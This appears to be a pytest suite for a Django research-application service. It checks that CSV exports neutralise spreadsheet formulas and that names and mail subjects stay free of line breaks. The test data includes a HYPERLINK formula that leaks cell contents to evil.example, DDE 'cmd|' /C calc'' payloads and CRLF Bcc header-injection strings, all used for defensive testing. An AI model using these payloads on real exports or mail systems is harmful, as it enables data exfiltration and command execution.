"""Safe exports (security probe, findings 6 and 10): no CSV cell the project writes starts a
spreadsheet formula; a person's name is one line of text; a mail subject never holds a line
break, whatever was typed into a name."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from django.core import mail

from core.spreadsheet import safe_cell
from notifications.models import Notification
from notifications.services import deliver_email, notify
from tests.factories import make_user
from tests.factories.workflow import World
from workflow.models import State

pytestmark = pytest.mark.django_db

REPO = Path(__file__).resolve().parents[2]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
PAYLOADS = {
    "title": '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "lay_summary": "+1+cmd|' /C calc'!A0",
    "public_benefit": "-2+3+cmd|' /C calc'!A0",
    "funder": "@SUM(1+1)*cmd|' /C calc'!A0",
}


def cells(response) -> list[str]:
    text = b"".join(response.streaming_content if response.streaming else [response.content])
    return [cell for row in csv.reader(io.StringIO(text.decode())) for cell in row]


@pytest.fixture
def world():
    return World()


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+44 1792 000000", "'+44 1792 000000"),
        ("-x", "'-x"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Plain title", "Plain title"),
        ("", ""),
        (-3, -3),
        (-0.5, -0.5),
        (None, None),
    ],
)
def test_a_cell_that_would_start_a_formula_is_written_as_text(value, written):
    assert safe_cell(value) == written


def test_the_public_register_csv_neutralises_every_formula(world, client):
    world.pi.full_name = "@SUM(1+1)*cmd|' /C calc'!A0"
    world.pi.save()
    world.at(State.APPROVED, **PAYLOADS)
    response = client.get("/api/v1/register.csv")
    assert response.status_code == 200
    written = cells(response)
    for payload in [*PAYLOADS.values(), world.pi.full_name]:
        assert any(payload in cell for cell in written), payload
    starting = [cell for cell in written if cell.startswith(FORMULA_START)]
    assert starting == []
    assert "'" + PAYLOADS["title"] in written


def test_the_turnaround_csv_neutralises_application_titles(world, client_for):
    world.at(State.SCOPING, title="=cmd|' /C calc'!A0")
    response = client_for(world.ops).get("/api/v1/metrics/turnaround.csv")
    assert response.status_code == 200
    written = cells(response)
    assert "'=cmd|' /C calc'!A0" in written
    assert [cell for cell in written if cell.startswith(FORMULA_START)] == []


def test_every_csv_the_project_writes_goes_through_the_safe_writer():
    """A new export cannot forget: ``csv.writer`` is used in core/spreadsheet.py alone."""
    pattern = re.compile(r"\bcsv\.(writer|DictWriter)\(")
    offenders = [
        str(path.relative_to(REPO))
        for package in ("access", "catalogue", "core", "notifications", "workflow", "config")
        for path in (REPO / package).rglob("*.py")
        if pattern.search(path.read_text()) and path != REPO / "core" / "spreadsheet.py"
    ]
    assert offenders == []


# --- names and subjects ------------------------------------------------------------------------


@pytest.mark.parametrize(
    "name",
    ["Tomos Price\r\nBcc: attacker@evil.example", "Tomos\nPrice", "Tomos\x00Price", "Tomos\tPrice"],
)
def test_a_name_with_a_line_break_or_control_character_is_refused(client_for, name):
    person = make_user("researcher", full_name="Tomos Price")
    response = client_for(person).patch("/api/v1/me/", {"full_name": name}, format="json")
    assert response.status_code == 400, response.json()
    assert "full_name" in response.json()["fields"]
    person.refresh_from_db()
    assert person.full_name == "Tomos Price"


def test_a_plain_name_is_still_accepted(client_for):
    person = make_user("researcher", full_name="Tomos Price")
    response = client_for(person).patch(
        "/api/v1/me/", {"full_name": "Tomos ap Rhys-Price"}, format="json"
    )
    assert response.status_code == 200
    person.refresh_from_db()
    assert person.full_name == "Tomos ap Rhys-Price"


def test_a_line_break_in_a_name_never_reaches_a_mail_subject(settings):
    """A name saved before names were checked (or through the admin) must not stop the email:
    it used to fail with BadHeaderError on every attempt until the notification was marked
    failed."""
    settings.EMAIL_BACKEND = "django.core.mail.backends.locmem.EmailBackend"
    officer = make_user("accreditation_officer", email="officer@tre.example")
    [notification] = notify(
        recipients=[officer],
        kind="accreditation.applied",
        subject="{{ name }} applied for accreditation",
        body="Please decide.",
        url="/accreditation/decisions/",
        context={"name": "Tomos Price\r\nBcc: attacker@evil.example\x0b"},
    )
    assert (
        notification.subject == "Tomos Price Bcc: attacker@evil.example applied for accreditation"
    )
    # A row written before the fix still carries the line break: the email strips it too.
    Notification.objects.filter(pk=notification.pk).update(subject="Tomos\r\nBcc: x applied")
    outcome = deliver_email(notification_id=notification.pk)
    assert outcome == "sent"
    [sent] = mail.outbox
    assert sent.subject == "Tomos Bcc: x applied"
    assert sent.to == ["officer@tre.example"]
    assert not sent.bcc


def test_a_title_is_one_line_in_the_api_and_on_the_page(client_for, client):
    world = World()
    response = client_for(world.pi).post(
        "/api/v1/applications/", {"title": "A title\r\n=cmd"}, format="json"
    )
    assert response.status_code == 400
    assert "title" in response.json()["fields"]
    client.force_login(world.pi)
    page = client.post("/applications/new/", {"title": "A title\r\n=cmd"})
    assert page.status_code == 400
    assert b"Write this on one line" in page.content
